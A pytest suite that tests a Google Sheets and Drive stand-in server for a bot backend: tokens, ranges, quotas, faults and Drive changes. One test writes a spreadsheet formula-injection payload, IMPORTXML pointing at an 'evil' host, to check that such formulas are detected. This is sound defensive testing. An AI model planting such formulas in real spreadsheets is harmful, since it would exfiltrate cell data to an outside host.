"""Sheets, Drive and the token endpoint, through the real gspread."""

from __future__ import annotations

from typing import Any

import gspread
import pytest
import requests
from google.auth.exceptions import RefreshError
from gspread.utils import InsertDataOption

from botbackend.workshop.sandbox.base import running
from botbackend.workshop.sandbox.google.auth import make_credentials, public_key_of
from botbackend.workshop.sandbox.google.stand_in import GoogleStandIn
from botbackend.workshop.sandbox.wire import Json

from .factories import control, make_sheets_client

BOOK = "salon-sheet"


@pytest.fixture
def sheets(google: GoogleStandIn) -> gspread.HTTPClient:
    """The HTTP client that the product uses."""
    return make_sheets_client(google).http_client


def values(http: gspread.HTTPClient, area: str = "Anna!A1:H") -> list[list[object]]:
    answer = http.values_get(BOOK, area, params={"valueRenderOption": "UNFORMATTED_VALUE"})
    return list(answer.get("values", []))


def write(http: gspread.HTTPClient, area: str, rows: list[list[object]], option: str = "RAW") -> Json:
    answer: Json = http.values_update(BOOK, area, params={"valueInputOption": option}, body={"values": rows})
    return answer


def test_a_token_is_fetched_once_and_renewed_when_it_expired(
    google: GoogleStandIn, sheets: gspread.HTTPClient
) -> None:
    for _ in range(3):
        values(sheets)
    assert google.counters["token"] == 1
    google.advance(3601)
    values(sheets)
    assert google.counters["token"] == 2


def test_a_request_without_a_token_is_googles_401(google: GoogleStandIn) -> None:
    answer = requests.get(f"{google.url}/v4/spreadsheets/{BOOK}", timeout=5)
    assert (answer.status_code, answer.json()["error"]["status"]) == (401, "UNAUTHENTICATED")
    drive = requests.get(f"{google.url}/drive/v3/files/{BOOK}", timeout=5)
    assert drive.json()["error"]["errors"][0]["reason"] == "authError"


def test_a_key_of_somebody_else_gets_no_token() -> None:
    ours = make_credentials("")
    with running(GoogleStandIn(public_key=public_key_of(ours))) as server:
        server.create(BOOK)
        with pytest.raises(RefreshError, match="invalid_grant"):
            make_sheets_client(server).open_by_key(BOOK)


def test_opening_tells_the_worksheets_and_strangers_are_kept_out(google: GoogleStandIn) -> None:
    client = make_sheets_client(google)
    assert [sheet.title for sheet in client.open_by_key(BOOK).worksheets()] == ["Anna"]
    with pytest.raises(gspread.SpreadsheetNotFound):
        client.open_by_key("unknown")
    control(google, "share", {"id": BOOK, "shared": False})
    with pytest.raises(PermissionError):
        client.open_by_key(BOOK)


def test_unknown_spreadsheets_appear_only_in_the_demo() -> None:
    with running(GoogleStandIn(auto_create=True)) as server:
        assert make_sheets_client(server).open_by_key("fresh").sheet1.title == "Sheet1"


def test_raw_texts_stay_texts(google: GoogleStandIn, sheets: gspread.HTTPClient) -> None:
    rows: list[list[object]] = [["05.03", "=1+1", "+380671112233", 7, True]]
    assert write(sheets, "Anna!A1:E1", rows)["updatedCells"] == 5
    assert values(sheets) == rows
    assert google.state()["formula_cells"] == []


def test_typed_values_are_parsed_by_the_locale(sheets: gspread.HTTPClient) -> None:
    write(sheets, "Anna!A1", [["05.03.2026", "10:30", "7", "'=x"]], "USER_ENTERED")
    assert values(sheets) == [[46086.0, 0.4375, 7, "=x"]]
    shown = sheets.values_get(BOOK, "Anna!A1:D1")["values"]
    assert shown == [["05.03.2026", "10:30", "7", "=x"]]


@pytest.mark.parametrize("text", ['=IMPORTXML("http://evil/"&B2)', "+A1"])
def test_a_formula_that_comes_through_the_api_is_reported(
    google: GoogleStandIn, sheets: gspread.HTTPClient, text: str
) -> None:
    write(sheets, "Anna!C2", [[text]], "USER_ENTERED")
    assert [cell["cell"] for cell in google.state()["formula_cells"]] == ["Anna!C2"]
    assert str(values(sheets, "Anna!C2")[0][0]).startswith("#COMPUTED:=")
    write(sheets, "Anna!C2", [["gone"]])
    assert google.state()["formula_cells"] == []
    assert len(google.state()["formula_writes"]) == 1


def test_a_formula_of_the_staff_is_not_blamed_on_the_product(google: GoogleStandIn) -> None:
    control(google, "edit", {"spreadsheet": BOOK, "sheet": "Anna", "cell": "A1", "value": "=1+1"})
    assert google.state()["formula_cells"] == []


def test_blank_rows_and_trailing_blanks_are_left_out(sheets: gspread.HTTPClient) -> None:
    assert "values" not in sheets.values_get(BOOK, "Anna!A1:H")
    write(sheets, "Anna!A1:C3", [["a", "", ""], [], ["", "b", ""]])
    assert values(sheets) == [["a"], [], ["", "b"]]


def test_a_null_skips_a_cell_and_an_empty_text_clears_it(sheets: gspread.HTTPClient) -> None:
    write(sheets, "Anna!A1:C1", [["a", "b", "c"]])
    write(sheets, "Anna!A1:C1", [[None, "", "C"]])
    assert values(sheets) == [["a", "", "C"]]


def test_many_ranges_are_read_and_written_in_one_request(
    google: GoogleStandIn, sheets: gspread.HTTPClient
) -> None:
    data = [{"range": "Anna!A1", "values": [["x"]]}, {"range": "'Anna'!B2:C2", "values": [["y", "z"]]}]
    told = sheets.values_batch_update(BOOK, body={"valueInputOption": "RAW", "data": data})
    assert (told["totalUpdatedCells"], told["totalUpdatedSheets"]) == (3, 1)
    found = sheets.values_batch_get(BOOK, ["Anna!A1:A1", "Anna!B2:C2"])["valueRanges"]
    assert [entry["values"] for entry in found] == [[["x"]], [["y", "z"]]]
    assert (google.counters["read"], google.counters["write"]) == (1, 1)


def test_ranges_by_worksheet_id_survive_a_renamed_tab(
    google: GoogleStandIn, sheets: gspread.HTTPClient
) -> None:
    write(sheets, "Anna!A1", [["x"]])
    control(google, "edit", {"spreadsheet": BOOK, "sheet": "Anna", "action": "rename", "title": "Anna K"})
    url = f"https://sheets.googleapis.com/v4/spreadsheets/{BOOK}/values:batchGetByDataFilter"
    grid = {"sheetId": 0, "startRowIndex": 0, "endColumnIndex": 8}
    found = sheets.request("post", url, json={"dataFilters": [{"gridRange": grid}]}).json()["valueRanges"][0]
    assert found["valueRange"]["range"] == "'Anna K'!A1:H1000"
    assert found["valueRange"]["values"] == [["x"]]
    with pytest.raises(gspread.exceptions.APIError, match="Unable to parse range: Anna!A1"):
        values(sheets, "Anna!A1")
    missing = {"dataFilters": [{"gridRange": {"sheetId": 99}}]}
    with pytest.raises(gspread.exceptions.APIError, match="No grid with id: 99"):
        sheets.request("post", url, json=missing)


def test_append_goes_below_the_table_and_clear_empties(
    google: GoogleStandIn, sheets: gspread.HTTPClient
) -> None:
    worksheet = make_sheets_client(google).open_by_key(BOOK).worksheet("Anna")
    worksheet.append_rows([["h1", "h2"], ["a", "b"]])
    told = worksheet.append_row(
        ["c", "d"], insert_data_option=InsertDataOption.insert_rows, table_range="A1:B"
    )
    assert (told["tableRange"], told["updates"]["updatedRange"]) == ("Anna!A1:B2", "Anna!A3:B3")
    worksheet.batch_clear(["A2:B2"])
    assert values(sheets) == [["h1", "h2"], [], ["c", "d"]]


@pytest.mark.parametrize("area", ["Nobody!A1", "Anna!A0", "Anna!1A", "Anna!A1:B2:C3"])
def test_a_range_that_is_none_is_400(sheets: gspread.HTTPClient, area: str) -> None:
    with pytest.raises(gspread.exceptions.APIError) as caught:
        values(sheets, area)
    assert caught.value.code == 400
    assert "Unable to parse range" in caught.value.error["message"]


def test_the_quota_answers_429_until_the_minute_is_over(
    google: GoogleStandIn, sheets: gspread.HTTPClient
) -> None:
    control(google, "quota", {"read": 2})
    values(sheets)
    values(sheets)
    with pytest.raises(gspread.exceptions.APIError) as caught:
        values(sheets)
    error = caught.value.error
    assert (error["code"], error["status"]) == (429, "RESOURCE_EXHAUSTED")
    assert error["details"][0]["metadata"]["quota_metric"] == "sheets.googleapis.com/read_requests"
    write(sheets, "Anna!A1", [["writes have a bucket of their own"]])
    google.advance(61)
    assert len(values(sheets)) == 1


def test_the_502_is_a_page(google: GoogleStandIn, sheets: gspread.HTTPClient) -> None:
    control(google, "faults", [{"kind": "status", "status": 502, "match": {"path": "/values/"}, "times": 1}])
    with pytest.raises(gspread.exceptions.APIError) as caught:
        values(sheets)
    assert (caught.value.code, caught.value.response.status_code) == (-1, 502)


def test_rows_are_written_though_the_connection_is_cut_after(
    google: GoogleStandIn, sheets: gspread.HTTPClient
) -> None:
    values(sheets)
    control(google, "faults", [{"kind": "cut_after", "match": {"method": "PUT"}, "times": 1}])
    with pytest.raises(requests.ConnectionError):
        write(sheets, "Anna!A1", [["written"]])
    assert values(sheets) == [["written"]]


def test_drive_tells_that_a_file_changed(google: GoogleStandIn, sheets: gspread.HTTPClient) -> None:
    def drive(path: str, **params: Any) -> Json:
        answer = sheets.request("get", f"https://www.googleapis.com/drive/v3/{path}", params=params)
        return dict(answer.json())

    before = drive(f"files/{BOOK}", fields="version,modifiedTime")
    token = drive("changes/startPageToken")["startPageToken"]
    write(sheets, "Anna!A1", [["x"]])
    after = drive(f"files/{BOOK}", fields="version,modifiedTime")
    assert set(after) == {"version", "modifiedTime"}
    assert int(after["version"]) == int(before["version"]) + 1
    changes = drive("changes", pageToken=token)
    assert [change["fileId"] for change in changes["changes"]] == [BOOK]
    assert drive("changes", pageToken=changes["newStartPageToken"])["changes"] == []


def test_the_view_shows_what_staff_may_edit(google: GoogleStandIn) -> None:
    def edit(**wish: object) -> None:
        body = {"spreadsheet": BOOK, "sheet": "Anna", **wish}
        assert requests.post(f"{google.url}/view/edit", json=body, timeout=5).status_code == 200

    for row, name in enumerate(["Name", "Ira", "Anna", "Olena"], 1):
        edit(action="set", cell=f"A{row}", value=name)
    edit(action="sort", column=0)
    edit(action="delete_row", row=2)
    edit(action="insert_row", row=2)
    edit(action="copy_row", row=3, to=5)
    view = requests.get(f"{google.url}/view", timeout=5).json()
    assert view["sheets"][0]["rows"] == [["Name"], [], ["Ira"], ["Olena"], ["Ira"]]
    assert "stand-in" in requests.get(google.url, timeout=5).text
    answer = requests.post(f"{google.url}/view/edit", json={"spreadsheet": BOOK, "sheet": "No"}, timeout=5)
    assert answer.status_code == 400
